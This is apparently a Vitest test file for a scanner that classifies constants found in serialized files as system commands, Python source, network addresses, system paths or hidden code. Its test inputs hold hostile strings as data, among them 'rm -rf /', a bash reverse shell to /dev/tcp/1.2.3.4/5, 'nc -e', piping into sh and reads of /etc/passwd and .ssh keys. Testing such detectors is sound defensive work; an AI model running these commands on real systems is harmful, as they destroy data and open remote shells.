import { describe, expect, it } from 'vitest';
import type { Value } from '#shared/files/globals/judgement';
import { tellingConstant, tellingText } from '#shared/files/globals/telling-constants';
import { bytes, global, made, text, tuple, unknown } from './values.ts';

describe('a text', () => {
  it.each([
    'rm -rf /',
    'sudo rm -f x',
    'curl example.org',
    '/bin/sh -c id',
    'bash -ic "x"',
    'id',
    'whoami',
    'ls',
    'ls -la',
    'echo x > y',
    'chmod +x a',
    'cmd.exe /c dir',
    'powershell',
    'python3 -c "x"',
    'nc -e x',
    'touch /tmp/x',
    'x | sh',
    'x; rm y',
    '$(id)',
    'x && y',
    'bash -i >& /dev/tcp/1.2.3.4/5',
    'run "/usr/bin/env"',
  ])('that is a command of the system is told of: %j', (command) => {
    expect(tellingText(command)).toBe('a command of the system');
  });

  it.each([
    '__import__("os")',
    'import os',
    'import os; os.getcwd()',
    'x = 1\nimport subprocess as s',
    'from os import path',
    'exec(x)',
    'eval (x)',
    'open("f")',
    'lambda x: f(x)',
    '().__class__',
    'print("x")',
    'subprocess.run',
  ])('that is source code is told of: %j', (code) => {
    expect(tellingText(code)).toBe('source code of Python');
  });

  it.each([
    'http://example.org',
    'see https://example.org',
    'FTP://x',
    'file:///x',
    '10.0.0.1',
    '10.0.0.1:80',
    '\\\\server\\share',
  ])('that is an address is told of: %j', (address) => {
    expect(tellingText(address)).toBe('an address of the network');
  });

  it.each([
    '/etc/passwd',
    '/tmp/x',
    '/root',
    '~/x',
    '~me/x',
    'C:\\x',
    'c:/x',
    '../x',
    '..\\x',
    'a/.ssh/key',
    '%TEMP%\\x',
    '.env',
  ])('that is a path of the system is told of: %j', (path) => {
    expect(tellingText(path)).toBe('a path of the system');
  });

  it.each(['gASVAAAAAAAA', 'eJwAAAAAAAAAAA', 'H4sIAAAAAAAA', 'aW1wb3J0IG9zO29z', 'TVqQAAMAAAAE'])(
    'that hides code is told of: %j',
    (hidden) => {
      expect(tellingText(hidden)).toBe('hidden code');
    },
  );

  it.each([
    '',
    'idle',
    'identity',
    'lsq',
    'bert-base-uncased',
    'model.layers.0.weight',
    'important words',
    'It is fine; more or less.',
    'x > 0',
    'a & b',
    'data/train/x.png',
    'evaluate',
    'version 1.2.3',
    '1.2.3',
    'catalogue',
    'linear',
    'gASV',
    'utf-8',
  ])('of everyday tells nothing: %j', (plain) => {
    expect(tellingText(plain)).toBeUndefined();
  });

  it('is looked at as far as 4096 letters', () => {
    expect(tellingText(`${'x'.repeat(4000)}\nimport os;`)).toBe('source code of Python');
    expect(tellingText(`${'x'.repeat(4096)}\nimport os;`)).toBeUndefined();
  });

  it('takes little time however it is made', () => {
    for (const piece of ['../', '$(', '`', 'echo ', ' ', 'lambda ', '/bin/'])
      expect(typeof tellingText(`${piece.repeat(4096)}\u0000`)).toMatch(/string|undefined/);
  });
});

describe('arguments', () => {
  const nested = (depth: number, inner: Value): Value => (depth === 0 ? inner : tuple(nested(depth - 1, inner)));

  it('tell by any text or bytes among them', () => {
    expect(tellingConstant([unknown, text('relu'), bytes('import os')])).toBe('source code of Python');
  });

  it.each([0, 3, 4])('tell by what lies within %i sequences', (depth) => {
    expect(tellingConstant([nested(depth, text('rm -rf /'))])).toBe('a command of the system');
  });

  it('tell nothing of what lies deeper', () => {
    expect(tellingConstant([nested(5, text('rm -rf /'))])).toBeUndefined();
  });

  it('tell by the arguments of calls among them', () => {
    expect(tellingConstant([made(global('a', 'b'), text('/etc/passwd'))])).toBe('a path of the system');
  });

  it('tell by the first 64', () => {
    const many = (count: number) => [...Array.from({ length: count }, () => text('a')), text('rm -rf /')];
    expect(tellingConstant(many(63))).toBeDefined();
    expect(tellingConstant(many(64))).toBeUndefined();
  });

  it('tell when they are bytecode', () => {
    expect(tellingConstant([bytes(`\xe3\0\0\0${'\0'.repeat(20)}`)])).toBe('hidden code');
    expect(tellingConstant([bytes(`c\0\0\0${'\0'.repeat(20)}`)])).toBe('hidden code');
    expect(tellingConstant([bytes('c\0\0\0')])).toBeUndefined();
  });

  it('tell nothing where there are none', () => {
    expect(tellingConstant([])).toBeUndefined();
    expect(tellingConstant([{ kind: 'number', text: '1' }, global('os', 'system')])).toBeUndefined();
  });
});
